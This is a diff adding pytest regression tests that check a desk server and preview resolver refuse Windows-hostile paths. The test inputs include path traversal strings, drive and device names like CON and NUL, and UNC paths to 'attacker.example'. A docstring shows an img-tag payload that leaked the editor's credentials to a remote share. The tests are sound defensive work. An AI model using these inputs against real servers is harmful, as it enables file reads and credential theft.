@@ -17,7 +17,8 @@ from test_serve import network_server
 from helpers import running_server
 from xiaokan.core.errors import ContentError
 from xiaokan.core.i18n import _
-from xiaokan.desk.editorial import accounts, app
+from xiaokan.desk import preview_site
+from xiaokan.desk.editorial import accounts, app, files
 
 
 def _request(base: str, method: str, path: str, body: bytes | None = None, **headers: str):
@@ -205,3 +206,45 @@ def test_on_the_network_a_request_head_is_not_held_up_to_megabytes(mini):
         assert _request(base, "GET", "/desk/login")[0] == 200
     with running_server(mini) as (base, _process):
         assert _answer_to_long_head(base, "/desk/login").startswith(b"HTTP/1.1 200")
+
+
+# --- names Windows reads as paths elsewhere -------------------------------------------------------
+
+@pytest.mark.parametrize("name", ["a\\..\\secret.txt", "C:secret.txt", "\\\\attacker.example\\share\\x.png"])
+def test_a_desk_file_named_with_backslashes_or_a_drive_is_never_looked_up(mini, tmp_path, monkeypatch, name):
+    """The desk's own files are answered before a login. On Windows `static/a\\..\\..\\..\\.desk\\users.json`
+    walked out of the folder, and `\\\\attacker.example\\share\\x` made Windows log in to another
+    computer's share with the editor's password hash. Here the name is a file of its own, as
+    Windows would have found it."""
+    monkeypatch.setattr(files, "STATIC", tmp_path / "static")
+    (tmp_path / "static").mkdir()
+    (tmp_path / "static" / name).write_text("secret", encoding="utf-8")
+    (tmp_path / "static" / "desk.js").write_text("ok", encoding="utf-8")
+    browser = Browser(app.Desk(mini, "127.0.0.1", PORT))
+    status, reply = browser.call("GET", "/desk/static/" + name)
+    assert status == 404 and reply["error"] == _("there is no such page in the desk")
+    assert browser.call("GET", "/desk/static/desk.js") == (200, b"ok")
+
+
+class Untouchable(type(Path())):
+    """A folder whose files may not be looked up: the test fails where the disk would be asked."""
+
+    def __truediv__(self, other):
+        raise AssertionError(f"looked up {other!r} on the disk")
+
+
+@pytest.mark.parametrize("address", ["/\\\\attacker.example\\share\\x.png", "/C:\\Windows\\win.ini", "/C:/Windows/win.ini",
+                                     "/2024-07\\..\\..\\site.yaml", "/con", "/2024-07/NUL.html", "/aux.html"])
+def test_a_preview_address_windows_reads_as_another_place_is_refused_before_the_disk_is_asked(address):
+    """(The preview is open to any page on 127.0.0.1: `<img src="http://127.0.0.1:8000/%5C%5Cattacker.example%5Cshare">`
+    made Windows connect to that share with the editor's credentials, or open the device CON.)"""
+    assert preview_site.resolve(Untouchable("/srv/preview"), address) is None
+
+
+def test_a_preview_address_of_the_site_is_still_found(tmp_path):
+    (tmp_path / "2024-07/first").mkdir(parents=True)
+    (tmp_path / "2024-07/first/index.html").write_text("<p>第一篇</p>", encoding="utf-8")
+    (tmp_path / "2024-07/会议:现场.png").write_bytes(b"png")
+    assert preview_site.resolve(tmp_path, "/2024-07/first/") == tmp_path / "2024-07/first/index.html"
+    assert preview_site.resolve(tmp_path, "/2024-07/会议:现场.png") == tmp_path / "2024-07/会议:现场.png"
+    assert preview_site.resolve(tmp_path, "/console/") is None
